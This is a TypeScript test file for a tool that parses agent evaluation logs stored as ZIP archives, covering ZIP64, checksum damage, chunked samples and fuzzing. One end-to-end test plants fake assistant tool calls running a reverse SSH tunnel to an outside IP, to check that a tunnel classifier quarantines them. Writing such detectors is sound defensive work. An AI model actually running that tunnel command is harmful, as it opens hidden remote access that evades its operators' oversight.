import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { packagePath } from '../../src/package-path.ts';
import { compress, loadCodecs } from '../../src/parquet/codec.ts';
import { openFile } from '../../src/parquet/source.ts';
import { evalSamples, listEvalSamples } from '../../src/pipeline/eval-log.ts';
import type { RecordBlock } from '../../src/pipeline/split-records.ts';
import { findPython } from '../support/python.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { trajsieve } from '../support/trajsieve.ts';

interface Member {
  readonly name: string;
  readonly text: string;
  readonly method?: 0 | 8 | 93;
}

/** A ZIP archive; with `is64` its numbers stand in 64-bit fields, as in an archive of more than 4 GB. */
function zip(members: readonly Member[], is64 = false): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, text, method = 8 } of members) {
    const plain = Buffer.from(text);
    const packed =
      method === 0 ? plain : method === 8 ? deflateRawSync(plain) : Buffer.from(compress('ZSTD', plain));
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(4, 28); // an extra field that only the local header has
    parts.push(local, Buffer.from(name), Buffer.from([9, 9, 0, 0]), packed);

    const extra = is64 ? Buffer.alloc(28) : Buffer.alloc(0);
    if (is64) {
      extra.writeUInt16LE(1, 0);
      extra.writeUInt16LE(24, 2);
      extra.writeBigUInt64LE(BigInt(plain.length), 4);
      extra.writeBigUInt64LE(BigInt(packed.length), 12);
      extra.writeBigUInt64LE(BigInt(offset), 20);
    }
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(plain), 16);
    central.writeUInt32LE(is64 ? 0xffffffff : packed.length, 20);
    central.writeUInt32LE(is64 ? 0xffffffff : plain.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt16LE(extra.length, 30);
    central.writeUInt32LE(is64 ? 0xffffffff : offset, 42);
    directory.push(central, Buffer.from(name), extra);
    offset += 30 + name.length + 4 + packed.length;
  }
  const list = Buffer.concat(directory);
  const end64 = Buffer.alloc(is64 ? 76 : 0);
  if (is64) {
    end64.writeUInt32LE(0x06064b50, 0);
    end64.writeBigUInt64LE(BigInt(list.length), 40);
    end64.writeBigUInt64LE(BigInt(offset), 48);
    end64.writeUInt32LE(0x07064b50, 56);
    end64.writeBigUInt64LE(BigInt(offset + list.length), 64);
  }
  const end = Buffer.alloc(22 + 5);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(is64 ? 0xffff : members.length, 10);
  end.writeUInt32LE(is64 ? 0xffffffff : list.length, 12);
  end.writeUInt32LE(is64 ? 0xffffffff : offset, 16);
  end.writeUInt16LE(5, 20);
  end.write('notes', 22);
  return Buffer.concat([...parts, list, end64, end]);
}

function write(bytes: Uint8Array): string {
  const file = join(temporaryFolder(), 'log.eval');
  writeFileSync(file, bytes);
  return file;
}

async function read(
  file: string,
  budget = 1 << 20,
  range?: { start: number; end: number },
): Promise<RecordBlock[]> {
  const source = openFile(file);
  try {
    const blocks: RecordBlock[] = [];
    for await (const block of evalSamples(source, budget, range)) blocks.push(block);
    return blocks;
  } finally {
    source.close();
  }
}

const texts = (blocks: readonly RecordBlock[]) =>
  blocks.flatMap(({ bytes, starts, ends }) =>
    [...starts].map((start, i) => Buffer.from(bytes.subarray(start, ends[i])).toString()),
  );

const sample = (id: number) =>
  JSON.stringify({ id, epoch: 1, messages: [{ role: 'user', content: `héllo ${id}` }] }, null, 1);
const log = (method?: 0 | 8 | 93): Member[] => [
  { name: '_journal/start.json', text: '{}' },
  ...[3, 1, 2].map(
    (id): Member => ({
      name: `samples/${id}_epoch_1.json`,
      text: sample(id),
      ...(method === undefined ? {} : { method }),
    }),
  ),
  { name: 'summaries.json', text: '[]' },
  { name: 'header.json', text: '{"version":2}' },
];

describe('evalSamples', () => {
  beforeAll(loadCodecs);

  test.each([[0], [8], [93]] as const)('gives samples byte for byte, packed by method %d', async (method) => {
    const blocks = await read(write(zip(log(method))));
    expect(texts(blocks)).toEqual([sample(3), sample(1), sample(2)]);
    expect(blocks.flatMap(({ lines }) => [...lines])).toEqual([1, 2, 3]);
  });

  test('reads archives with 64-bit numbers', async () => {
    expect(texts(await read(write(zip(log(), true))))).toEqual([sample(3), sample(1), sample(2)]);
  });

  test('keeps blocks to their budget, and to a range', async () => {
    const file = write(zip(log()));
    expect(await read(file, 1)).toHaveLength(3);
    const some = await read(file, 1 << 20, { start: 1, end: 2 });
    expect(texts(some)).toEqual([sample(1)]);
    expect([...some[0]!.lines]).toEqual([1]);
  });

  test('where a name stands twice the later one counts', async () => {
    const members = [...log(), { name: 'samples/1_epoch_1.json', text: '{"id":"later"}' }];
    expect(texts(await read(write(zip(members))))).toEqual([sample(3), sample(2), '{"id":"later"}']);
  });

  test('a damaged sample costs itself, and says why', async () => {
    const bytes = zip(log(0));
    bytes[bytes.indexOf('llo 1')] = 0x21;
    const blocks = await read(write(bytes));
    expect(texts(blocks)).toEqual([sample(3), '', sample(2)]);
    expect([...blocks[0]!.damage!]).toEqual([[1, expect.stringContaining('checksum')]]);
  });

  test('a cut archive, one without samples and one that is none are errors', async () => {
    const bytes = zip(log());
    await expect(read(write(bytes.subarray(0, bytes.length - 60)))).rejects.toMatchObject({
      code: 'zip-damaged',
    });
    await expect(read(write(Buffer.from('no zip')))).rejects.toMatchObject({ code: 'zip-damaged' });
    await expect(read(write(zip([{ name: 'x.json', text: '{}' }])))).rejects.toMatchObject({
      code: 'input-unknown',
    });
  });

  test('no damage makes it crash or hang', async () => {
    const bytes = zip(log());
    const folder = temporaryFolder();
    for (let at = 0; at < bytes.length; at += 3) {
      const damaged = Buffer.from(bytes);
      damaged[at] = damaged[at]! ^ 0xff;
      const file = join(folder, 'damaged.eval');
      writeFileSync(file, damaged);
      const outcome = await read(file).catch((error: { code?: string }) => error);
      if (!Array.isArray(outcome)) expect(outcome.code).toMatch(/^(zip-damaged|input-)/);
    }
  });

  test('puts chunked samples together: their messages, with what was attached', async () => {
    const shell = {
      id: 'big',
      epoch: 1,
      input: 'attachment://2',
      message_refs: [
        [0, 1],
        [2, 4],
      ],
    };
    const message = (content: string) => ({ role: 'user', content });
    const prefix = 'samples/big_epoch_1';
    const members = [
      { name: `${prefix}/sample.json`, text: JSON.stringify(shell) },
      { name: `${prefix}/events/0.json`, text: '[]' },
      { name: `${prefix}/messages/2.json`, text: JSON.stringify([message('c'), message('attachment://0')]) },
      { name: `${prefix}/messages/0.json`, text: JSON.stringify([message('a'), message('b')]) },
      { name: `${prefix}/attachments/0.json`, text: JSON.stringify(['long text', 'not read']) },
      { name: `${prefix}/attachments/2.json`, text: JSON.stringify(['the task']) },
      ...log(),
    ];
    const [record] = texts(await read(write(zip(members))));
    expect(JSON.parse(record!)).toEqual({
      id: 'big',
      epoch: 1,
      input: 'the task',
      messages: [message('a'), message('c'), message('long text')],
    });
  });

  test('a chunked sample that misses a chunk is damaged', async () => {
    const members = [
      { name: 'samples/x_epoch_1/sample.json', text: '{"message_refs":[[0,2]]}' },
      { name: 'samples/x_epoch_1/messages/0.json', text: '[{}]' },
    ];
    const [block] = await read(write(zip(members)));
    expect(block!.damage!.get(0)).toMatch(/messages from 1 on are missing/);
  });
});

test('a run over a log accounts for every sample, and finds what was planted', () => {
  const folder = temporaryFolder();
  const file = join(folder, 'log.eval');
  const sampleOf = (id: number): Member => {
    const command = id % 10 === 3 ? 'ssh -fN -R 2222:localhost:22 me@203.0.113.9' : 'ls -la';
    const call = { id: 'c', function: 'bash', arguments: { cmd: command }, type: 'function' };
    const messages = [
      { role: 'user', content: 'List the files.' },
      { role: 'assistant', content: '', tool_calls: [call] },
      { role: 'tool', content: 'a.txt', tool_call_id: 'c', function: 'bash' },
    ];
    const output = { model: 'test/model', choices: [] };
    return {
      name: `samples/${id}_epoch_1.json`,
      text: JSON.stringify({ id, epoch: 1, input: 'x', target: 'y', messages, output }, null, 2),
    };
  };
  const bytes = zip([...Array(30).keys()].map(sampleOf).map((one) => ({ ...one, method: 0 as const })));
  bytes[bytes.indexOf('"id": 20')] = 0x21; // one sample no longer fits its checksum
  writeFileSync(file, bytes);
  const out = join(folder, 'out');
  const classifiers = ['--classifiers', packagePath('classifiers/tunnels')];
  const result = trajsieve(['run', file, '--out', out, '--json', ...classifiers]);
  expect(result.stderr).toMatch(/checksum/);
  const { rows } = JSON.parse(result.stdout) as { rows: Record<string, number> };
  expect(rows).toMatchObject({ in: 30, kept: 26, quarantined: 3, unreadable: 1 });
  expect(trajsieve(['verify', out]).status).toBe(0);
  const inspection = trajsieve(['inspect', file]).stdout;
  expect(inspection).toContain('inspect-sample');
  expect(inspection).toContain('ls -la');
});

const python = findPython('zipfile');

test.skipIf(python === undefined)('reads what Python writes', async () => {
  const folder = temporaryFolder();
  const file = join(folder, 'log.eval');
  const code = `
import json, sys, zipfile
with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as log:
    for id in range(200):
        log.writestr(f'samples/{id}_epoch_1.json', json.dumps({'id': id, 'text': 'x' * id}, indent=2))
`;
  expect(spawnSync(python!, ['-c', code, file]).status).toBe(0);
  const source = openFile(file);
  expect(await listEvalSamples(source)).toHaveLength(200);
  source.close();
  expect(texts(await read(file, 1000)).map((text) => JSON.parse(text).id)).toEqual([...Array(200).keys()]);
});
